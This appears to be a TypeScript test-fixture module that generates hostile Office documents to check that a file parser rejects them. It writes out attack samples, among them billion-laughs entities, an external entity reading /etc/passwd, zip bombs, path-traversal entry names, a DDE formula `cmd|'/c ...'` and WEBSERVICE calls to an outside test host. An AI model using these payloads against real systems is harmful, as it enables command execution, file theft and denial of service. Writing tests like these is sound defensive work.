import { docx, openDocument, relations, thatSays, xlsx, zipped } from '../made-office.js';
import { pdfOf } from '../made-pdf.js';
import { png, pngThatSays } from '../made-pictures.js';
import { hostile, type HostileFile } from './hostile-file.js';
import { mutated } from './mutations.js';

const SECRET = 'canarisecret';
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${[...'bcdefghij'].map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghij'[n]};`.repeat(10)}">`).join('')}]><x>&j;</x>`;
const OUTSIDE = `<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>`;
const WORDS = '<w:p><w:r><w:t>Bonjour</w:t></w:r></w:p>';
const PICTURE = '<w:p><w:r><w:drawing><wp:inline><a:blip r:embed="rId7"/></wp:inline></w:drawing></w:r></w:p>';
const ROW = '<row><c t="s"><v>0</v></c><c><f>SUM(1,2)</f><v>3</v></c></row>';

/** The same archive whose lists of parts say another method, or that its parts are locked. */
function inEachHead(zip: Buffer, change: (copy: Buffer, at: number, isInList: boolean) => void): Buffer {
  const copy = Buffer.from(zip);
  for (const [mark, isInList] of [
    ['PK\x03\x04', false],
    ['PK\x01\x02', true],
  ] as const)
    for (let at = copy.indexOf(mark, 0, 'latin1'); at !== -1; at = copy.indexOf(mark, at + 4, 'latin1'))
      change(copy, at, isInList);
  return copy;
}

/** The same archive whose parts all lie where the first one does: few bytes, unpacked again and again. */
function overlapping(zip: Buffer): Buffer {
  return inEachHead(zip, (copy, at, isInList) => void (isInList && copy.writeUInt32LE(0, at + 42)));
}

const renamed = (zip: Buffer, from: string, to: string): Buffer =>
  Buffer.from(zip.toString('latin1').replaceAll(from, to), 'latin1');

export async function hostileOffice(seed: number): Promise<HostileFile[]> {
  const dot = await png(9, 9);
  const plain = docx(WORDS);
  const pictured = (bytes: Buffer): Buffer =>
    docx(WORDS + PICTURE, {
      'word/media/image1.png': bytes,
      'word/_rels/document.xml.rels': relations([['rId7', 'image', 'media/image1.png']]),
    });
  const sheet = xlsx(ROW, { 'xl/sharedStrings.xml': '<sst><si><t>Caméras</t></si></sst>' });
  const text = openDocument('text', '<text:p>Bonjour</text:p>');
  const cells = openDocument(
    'spreadsheet',
    '<table:table><table:table-row><table:table-cell><text:p>1</text:p></table:table-cell></table:table-row></table:table>',
  );
  const taken = { becomes: 'taken', never: SECRET };
  const deep = (name: string, times: number): string => `<${name}>`.repeat(times) + `</${name}>`.repeat(times);
  return [
    hostile('a Word file of a billion laughs', docx('', { 'word/document.xml': LAUGHS }), { becomes: 'entities' }),
    hostile('an ODT of a billion laughs', openDocument('text', '', { 'content.xml': LAUGHS }), {
      becomes: 'entities',
    }),
    hostile('a sheet whose strings are laughs', xlsx(ROW, { 'xl/sharedStrings.xml': LAUGHS }), {
      becomes: 'entities',
    }),
    hostile('relations that name a file of this machine', docx(WORDS, { 'word/_rels/document.xml.rels': OUTSIDE }), {
      becomes: 'entities',
    }),
    hostile('a Word file of 400 MB zeros', thatSays(docx(WORDS, { 'word/styles.xml': 'x' }), 400_000_000), {
      becomes: 'unpacks-too-large',
    }),
    hostile('a Word file that unpacks to 61 MB', docx(WORDS, { 'word/media/a.png': Buffer.alloc(61_000_000) }), {
      becomes: 'unpacks-too-large',
    }),
    hostile(
      'a Word file of 2,001 parts',
      docx(WORDS, Object.fromEntries(Array.from({ length: 2_001 }, (_, n) => [`word/${n}.xml`, '']))),
      { becomes: 'unpacks-too-large' },
    ),
    hostile(
      'parts that lie upon one another',
      overlapping(
        docx(WORDS, Object.fromEntries(Array.from({ length: 900 }, (_, n) => [`word/${n}.xml`, 'x'.repeat(99)]))),
      ),
    ),
    hostile('a ZIP in a ZIP in a ZIP', zipped({ 'a.zip': zipped({ 'b.zip': zipped({ c: 'x' }) }) }), {
      becomes: 'archive',
    }),
    hostile(
      'a Word file with a ZIP beside its words',
      docx(WORDS, { 'word/a.zip': zipped({ [SECRET]: SECRET }), [`${SECRET}.zip`]: plain }),
      taken,
    ),
    hostile(
      'parts that climb out of their folder',
      docx(WORDS, { '../../../../tmp/a': SECRET, '/etc/a': SECRET, 'word/..\\..\\a': SECRET }),
      taken,
    ),
    hostile(
      'parts that are called __proto__',
      docx(WORDS, { __proto__: SECRET, constructor: SECRET, 'word/__proto__': SECRET }),
      taken,
    ),
    hostile(
      'a part that is there twice',
      renamed(docx(WORDS, { 'word/documenu.xml': `<x>${SECRET}</x>` }), 'word/documenu.xml', 'word/document.xml'),
    ),
    hostile(
      'a Word file that says to be locked',
      inEachHead(plain, (copy, at, isInList) => void copy.writeUInt16LE(1, at + (isInList ? 8 : 6))),
    ),
    hostile(
      'a Word file packed by a method of nobody',
      inEachHead(plain, (copy, at, isInList) => void copy.writeUInt16LE(99, at + (isInList ? 10 : 8))),
    ),
    hostile('a Word file without its list', plain.subarray(0, plain.indexOf('PK\x01\x02', 0, 'latin1')), {
      becomes: 'broken',
    }),
    hostile('a Word file with macros', docx(WORDS, { 'word/vbaProject.bin': 'x' }), { becomes: 'macros' }),
    hostile('an ODT with macros', openDocument('text', '', { 'Basic/Standard/x.xml': 'x' }), { becomes: 'macros' }),
    hostile(
      'an ODS with a password',
      openDocument('spreadsheet', '', { 'META-INF/manifest.xml': '<m:encryption-data/>' }),
      { becomes: 'password' },
    ),
    hostile('a Word file with a sheet inside', docx(WORDS, { 'word/embeddings/a.xlsx': sheet }), {
      becomes: 'embedded',
    }),
    hostile('words 100,000 elements deep', docx(deep('w:p', 100_000)), { becomes: 'broken' }),
    hostile('cells 100,000 elements deep', openDocument('spreadsheet', deep('table:table', 100_000)), {
      becomes: 'broken',
    }),
    hostile(
      'an element of 50,000 attributes',
      docx(`<w:p ${Array.from({ length: 50_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
    ),
    hostile('an attribute of 5 MB', docx(`<w:p w:x="${'x'.repeat(5_000_000)}"/>`)),
    hostile('half an element', docx('<w:p><w:r', {})),
    hostile('words in UTF-16', docx('', { 'word/document.xml': Buffer.from('\ufeff<a/>', 'utf16le') }), {
      becomes: 'broken',
    }),
    hostile('a picture that says 60,000 by 60,000', pictured(pngThatSays(60_000, 60_000)), { becomes: 'taken' }),
    hostile('a picture that is a PDF', pictured(pdfOf([SECRET])), taken),
    hostile(
      'a template of another server',
      docx(WORDS, {
        'word/_rels/settings.xml.rels': relations([
          ['rId1', 'attachedTemplate', `http://${SECRET}.test/a.dotm`, true],
        ]),
        'word/settings.xml': `<w:settings>${SECRET}</w:settings>`,
      }),
      taken,
    ),
    hostile(
      'a sheet that runs a program',
      xlsx(
        `<row><c><f>cmd|'/c ${SECRET}'!A1</f><v>1</v></c><c><f>WEBSERVICE("http://${SECRET}.test")</f><v>2</v></c></row>`,
      ),
      taken,
    ),
    hostile(
      'cells that name strings of nobody',
      xlsx('<row><c t="s"><v>4294967296</v></c><c t="s"><v>-1</v></c><c t="s"><v>__proto__</v></c></row>'),
      { becomes: 'taken' },
    ),
    hostile(
      'relations that lead in a ring',
      docx(WORDS, {
        'word/_rels/document.xml.rels': relations([['rId1', 'header', 'header1.xml']]),
        'word/header1.xml': '<w:hdr/>',
        'word/_rels/header1.xml.rels': relations([['rId1', 'header', 'document.xml']]),
      }),
    ),
    hostile(
      'an Excel file that says to be a Word file',
      renamed(sheet, 'spreadsheetml.sheet', 'wordprocessingml.document'),
    ),
    hostile('a Word file that is a page too', Buffer.concat([plain, Buffer.from(`<script>${SECRET}</script>`)])),
    ...mutated(
      {
        'a Word file': plain,
        'a sheet': sheet,
        'an ODT': text,
        'an ODS': cells,
        'a Word file with a picture': pictured(dot),
      },
      25,
      { seed, other: pdfOf(['x']) },
    ),
  ];
}
